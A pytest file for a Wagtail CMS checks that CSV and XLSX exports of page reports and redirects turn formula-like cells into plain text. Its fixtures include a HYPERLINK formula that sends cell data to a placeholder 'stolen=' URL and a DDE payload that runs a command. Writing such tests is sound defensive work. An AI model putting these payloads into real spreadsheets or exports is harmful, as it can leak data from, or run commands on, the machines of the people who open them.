"""Exports of the editing screens: what somebody typed never becomes a formula in the reader's spreadsheet program."""

import csv
import inspect
import io
from datetime import UTC, date, datetime

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log
from wagtail.models import Page, Site

from cms.actions.setting_up import set_up_sites
from cms.models import GuidancePage, HomePage, SiteEditing
from cms.spreadsheets import write_harmless_cells
from tables.cells import harmless
from tests.factories import UserFactory
from tests.returns.pages import browser

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://example.com/?stolen="&A1,"Read more")'


@pytest.fixture
def moderator():
    user = UserFactory()
    user.groups.add(SiteEditing.objects.get().publishers)
    return user


@pytest.fixture
def page(moderator):
    """A live page with a formula for a title, as an editor can write it."""
    home = Page.objects.get(depth=1).add_child(
        instance=HomePage(title="Home", slug="start", introduction="Welcome.", summary="Welcome.")
    )
    Site.objects.update(root_page=home)
    set_up_sites()
    made = home.add_child(instance=GuidancePage(title=FORMULA, slug="trap", summary="What to send."))
    made.save_revision(user=moderator).publish(user=moderator)
    log(instance=made, action="wagtail.edit", user=moderator)
    return made


def cells_of(response, kind: str) -> list[list]:
    """The rows of an export."""
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if kind == "csv":
        return list(csv.reader(io.StringIO(content.decode())))
    sheet = load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("address", ["wagtailadmin_reports:site_history", "wagtailadmin_reports:aging_pages"])
def test_title_that_is_a_formula_is_exported_as_words(moderator, page, address, kind):
    response = browser(moderator).get(reverse(address), {"export": kind})
    cells = [cell for row in cells_of(response, kind) for cell in row]
    assert f"'{FORMULA}" in cells and FORMULA not in cells


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_redirect_that_is_a_formula_is_exported_as_words(kind):
    link = "@SUM(1+1)*cmd|' /C calc'!A0"
    Redirect.objects.create(old_path="/old", redirect_link=link, is_permanent=True)
    response = browser(UserFactory(is_superuser=True)).get(reverse("wagtailredirects:index"), {"export": kind})
    cells = [cell for row in cells_of(response, kind) for cell in row]
    assert f"'{link}" in cells and link not in cells


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "\r", "\n", "\0"])
def test_cell_with_a_dangerous_beginning_is_harmless(beginning):
    assert harmless(f"{beginning}1+1") == f"'{beginning}1+1"


@pytest.mark.parametrize("value", ["", "1+1", "Evidence", -1, 1.5, True, None, date(2026, 4, 1), datetime.now(UTC)])
def test_cell_without_one_stays_as_it_is(value):
    assert harmless(value) is value


def everything_below(view: type) -> set[type]:
    return {view, *(lower for below in view.__subclasses__() for lower in everything_below(below))}


def test_wagtail_still_sends_every_cell_through_the_one_method_that_is_wrapped():
    """When this fails after an upgrade, see what Wagtail does now and mend cms/spreadsheets.py."""
    reverse("wagtailadmin_home")  # every view is known once the addresses are
    method = SpreadsheetExportMixin.preprocess_field_value
    assert list(inspect.signature(method.__wrapped__).parameters) == ["self", "field", "value", "export_format"]
    for writer in ("write_csv_row", "generate_xlsx_row"):
        assert "self.preprocess_field_value(" in inspect.getsource(getattr(SpreadsheetExportMixin, writer))
    own = {"preprocess_field_value", "write_csv_row", "generate_xlsx_row", "stream_csv", "write_xlsx"}
    ways_round = {
        f"{view.__module__}.{view.__name__}": sorted(own & vars(view).keys())
        for view in everything_below(SpreadsheetExportMixin) - {SpreadsheetExportMixin}
        if own & vars(view).keys()
    }
    assert ways_round == {}


def test_method_is_wrapped_once():
    before = SpreadsheetExportMixin.preprocess_field_value
    write_harmless_cells()
    assert SpreadsheetExportMixin.preprocess_field_value is before
    assert not hasattr(before.__wrapped__, "__wrapped__")
